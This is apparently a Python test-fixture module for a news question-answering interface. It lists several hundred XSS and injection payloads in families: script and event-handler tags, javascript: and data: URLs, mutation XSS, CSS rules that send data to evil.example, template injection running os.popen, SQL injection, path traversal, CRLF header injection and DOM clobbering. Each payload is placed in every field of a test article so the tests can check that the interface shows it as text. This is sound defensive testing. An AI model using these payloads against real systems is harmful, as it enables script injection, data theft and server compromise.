"""Words that try to become markup or code; written down for the tests of every face.

The families are made of parts where parts repeat: what runs, in every place where it could run, in
every disguise. A payload sets `window.hit`, opens a dialog, asks evil.example for something, or
takes the page apart; a face has to show it as the words that it is.
"""

from __future__ import annotations

from newsqa.types import Article, Copy

CLASSICS = (
    "<script>window.hit=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror="window.hit=1">',
    "'><img src='//evil.example/pixel.png'>",
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x" onerror=&#97;lert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    '<a href="javascript:alert(1)">点这里</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://evil.example\\@good.example/",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    '<div style="background:url(//evil.example/x.png);position:fixed;inset:0">x</div>',
    "<form action=//evil.example/><input name=q autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea autofocus onfocus=alert(1)></textarea></textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`-alert(1)-`",
    "';alert(1)//",
    '";window.hit=1;"',
    '","notice":"<img src=x onerror=alert(1)>","x":"',
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "mark</mark></strong></blockquote><script>alert(1)</script>",
    'cite-1" onclick="alert(1)',
    "__proto__|constructor|toString",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "谁主持了会议？<script>alert(1)</script>",
)

# What runs by itself, by element and event, with each way of writing an attribute.
_EVENTS = (
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("div tabindex=1 autofocus", "onfocus"),
    ("a href=# autofocus", "onfocusin"),
    ("div contenteditable autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("video autoplay src=data:video/mp4,", "onloadstart"),
    ("audio src=x", "onerror"),
    ("source src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("iframe src=about:blank", "onload"),
    ("frameset", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("svg", "onload"),
    ("svg><image href=x", "onerror"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><animateTransform attributeName=x", "onbegin"),
    ("math><mi href=# tabindex=1 autofocus", "onfocus"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("details open", "ontoggle"),
    ("dialog open", "onclose"),
    ("marquee", "onfinish"),
    ("meter", "onmouseover"),
    ("xss style=animation-name:nq-wait;animation-duration:1s", "onanimationstart"),
    ("xss style=transition:all.1s", "ontransitionend"),
    ("div", "onpointerrawupdate"),
    ("div style=overflow:auto;height:9px", "onscroll"),
    ("form><button type=submit", "onclick"),
    ("input type=hidden oncontentvisibilityautostatechange=1", "onbeforeinput"),
    ("p popover id=x", "onbeforetoggle"),
    ("track default", "oncuechange"),
)
_WRITINGS = (
    "<{0} {1}=window.hit=1>",
    "<{0}\t{1}='alert(1)'>",
    '<{0}/{1} = "alert`1`">',
    "<{0}\n{1}=alert(1)//",
)

EVENTS = tuple(
    _WRITINGS[number % len(_WRITINGS)].format(*event) for number, event in enumerate(_EVENTS)
)

# Out of the value of an attribute, whichever quotation marks it stands in.
ATTRIBUTES = (
    *(
        f"x{quote}{gap}{event}=window.hit=1{gap}y={quote}"
        for quote in ('"', "'", "`", "")
        for gap, event in ((" ", "onmouseover"), ("\t", "onfocus"), ("/", "onclick"))
    ),
    *(f"x{closing}<svg onload=window.hit=1>" for closing in ('">', "'>", ">", "/>", "-->", "]]>")),
    '" style="position:fixed;inset:0;background:red" x="',
    '" href="javascript:window.hit=1" x="',
    '" class="nq-abstained" hidden x="',
    '" srcdoc="<script>parent.hit=1</script>" x="',
    "&quot; onmouseover=&quot;window.hit=1&quot;",
    "&#34;&#32;onmouseover=alert(1)&#32;x=&#34;",
    'x\\" onclick=\\"alert(1)\\"',
)

# Addresses that run or lead away, as attributes, as links, and bare in the field `url`.
ADDRESSES = (
    "javascript:window.hit=1",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://https://a.example/%0Aalert(1)",
    "javascript:/*https://a.example/*/alert(1)",
    "javascript:void(window.hit=1)//.html",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "ja\u00advascript:alert(1)",
    "ja\u200bvascript:alert(1)",
    "jаvаscript:alert(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "vbscript:Execute(MsgBox(1))",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:,alert(1)",
    "DaTa:text/html,<script>parent.hit=1</script>",
    "blob:https://a.example/0",
    "filesystem:https://a.example/temporary/x.html",
    "file:///etc/hostname",
    "about:blank#<script>alert(1)</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example",
    "https:///evil.example",
    "https://a.example@evil.example/",
    "https://a.example/\u202egnp.exe",
    "https://a.example/#:~:text=x<script>alert(1)</script>",
    "https://a.example/#x' onclick='alert(1)",
    "https://a.example/?q=</a><script>alert(1)</script>",
    "http://[::1]:1/<svg/onload=alert(1)>",
    "https://a.example/\x00javascript:alert(1)",
    "ws://evil.example/",
)
LINKS = tuple(
    f'<a href="{address}">x</a>' if number % 2 else f"[x](<{address}>)"
    for number, address in enumerate(ADDRESSES[:24])
)

# Markup that parsers read otherwise the second time (mutation XSS), and foreign content.
MUTATIONS = (
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mi><!--</mi><img src=x onerror=alert(1)>--></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<table><td background=//evil.example/x><caption><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><svg onload=alert(1)>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<p><template><form></template><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![if IE]><script>alert(1)</script><![endif]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]><x>&y;</x>",
    "<a/b/c><scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/y>",
    "<script\u2028>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
    "<\uff53cript>alert(1)</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
    "<script>/*</script><script>*/window.hit=1</script>",
)

# Sheets of style that hide, cover or send.
STYLES = (
    "<style>body{display:none}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style='background-image:url(//evil.example/y.png)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='behavior:url(//evil.example/x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999;background:#fff'>登录已过期</p>",
    "</style><script>alert(1)</script>",
    "*/}body{background:url(//evil.example/z.png)}/*",
    "<link rel=preload as=image href=//evil.example/p.png>",
    "<link rel=dns-prefetch href=//evil.example>",
)

# What Gradio's Markdown, LaTeX and templates, and other engines, would carry out.
TEMPLATES = (
    "${window.hit=1}",
    "${`${window.hit=1}`}",
    "\\${window.hit=1}",
    "{{window.hit=1}}",
    "{{{window.hit=1}}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "{% import os %}{{os.popen('id')}}",
    "#{window.hit=1}",
    "<%= window.hit=1 %>",
    "@{window.hit=1}",
    "[[${7*7}]]",
    "{value}",
    "${value}{{value}}",
    "%(hit)s%s%n{0}{hit!r}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "![x](https://evil.example/m.png)",
    "![x][1]\n\n[1]: https://evil.example/r.png",
    "<https://evil.example/auto>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1) 'y'",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# 大标题\n> 引文\n- 列表\n| 表 | 格 |\n|---|---|",
    "**粗** _斜_ ~~删~~ `码`",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\unicode{x}\\require{html}\\class{x}{y}$",
    "\\(\\includegraphics{https://evil.example/l.png}\\)",
    "<details><summary>x</summary><img src=x onerror=alert(1)></details>",
)

# The same letters in other coats, which something on the way may take off.
ENCODINGS = (
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#0000060;script&#0000062;alert(1)&#0000060;/script&#0000062;",
    "&#x3c;svg/onload=alert(1)&#x3e;",
    "&LT;script&GT;alert(1)&LT;/script&GT;",
    "&lt;script&gtalert(1)",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\74script\\76alert(1)\\74/script\\76",
    "\\u{3c}script\\u{3e}alert(1)",
    "\\3c script\\3e alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00c0\u00bcscript\u00c0\u00bealert(1)",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u02c2script\u02c3alert(1)",
    "\u226escript\u226falert(1)",
    "＜img src=x onerror=alert(1)＞",
    "﹤script﹥alert(1)﹤/script﹥",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\u4e2d\ufffd<script>alert(1)</script>",
)

# Marks that turn, hide or end a line.
INVISIBLE = (
    "\u202e<svg onload=alert(1)>\u202c",
    "\u2066\u2067<script>alert(1)</script>\u2069",
    "\u200f\u061c<img src=x onerror=alert(1)>",
    "<\u200bscript>alert(1)</script>",
    "<scr\u00adipt>alert(1)</script>",
    "\u2060<script>alert(1)</script>\u2060",
    "\U000e0001\U000e0073<script>alert(1)</script>",
    "a\u0301\u0489<script>alert(1)</script>",
    "x\x00<script>alert(1)</script>",
    "x\x08\x1b[31m<script>alert(1)</script>",
    "x\x0b\x0c<script>alert(1)</script>",
    "x\u0085\u2028\u2029<script>alert(1)</script>",
    "\U0001f468\u200d\U0001f469<img src=x onerror=alert(1)>",
)

# Out of JSON, scripts, headers and event streams that the words travel in.
CARRIERS = (
    '"}]}</script><script>window.hit=1</script>',
    "'});window.hit=1;({'",
    "\\');window.hit=1;//",
    "*/window.hit=1/*",
    "\nwindow.hit=1\n",
    "\r\n\r\n<script>alert(1)</script>",
    "x\r\nSet-Cookie: hit=1\r\n\r\n<script>alert(1)</script>",
    'event: answer\ndata: {"html":"<img src=x onerror=alert(1)>"}\n\n',
    "\u2028window.hit=1\u2029",
    '{"__type__":"update","value":"<img src=x onerror=alert(1)>"}',
    '{"path":"/etc/hostname","meta":{"_type":"gradio.FileData"}}',
    '{"toString":"x","constructor":{"prototype":{"hit":1}}}',
    "<!--#include file='/etc/hostname'-->",
    "'; DROP TABLE articles; --",
    '" OR 1=1 OR "',
    "../../../../etc/hostname",
)

# Names that the page's own scripts look for.
CLOBBERS = (
    "<form id=ask><input name=action></form>",
    "<a id=answer></a><a id=answer name=x href=//evil.example></a>",
    "<img name=getElementById><img name=querySelector>",
    "<iframe name=parent srcdoc=x></iframe>",
    "<mark id=answer>不是答案</mark>",
    "<div id=cite-1-1 class=nq-source>不是出处</div>",
    "<base target=_blank href=//evil.example>",
    "<input id=nq-box value=x>",
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *CLASSICS,
            *EVENTS,
            *ATTRIBUTES,
            *ADDRESSES,
            *LINKS,
            *MUTATIONS,
            *STYLES,
            *TEMPLATES,
            *ENCODINGS,
            *INVISIBLE,
            *CARRIERS,
            *CLOBBERS,
        )
    )
)


def article_of(payload: str, id_: str, text: str) -> Article:
    """An article with the payload in each of its fields, and in those of a copy."""
    return Article(
        id_,
        text,
        title=payload,
        url=payload,
        publisher=payload,
        author=payload,
        published=payload,
        copies=(Copy(f"copy {id_} {payload}", payload, payload, payload, payload),),
    )
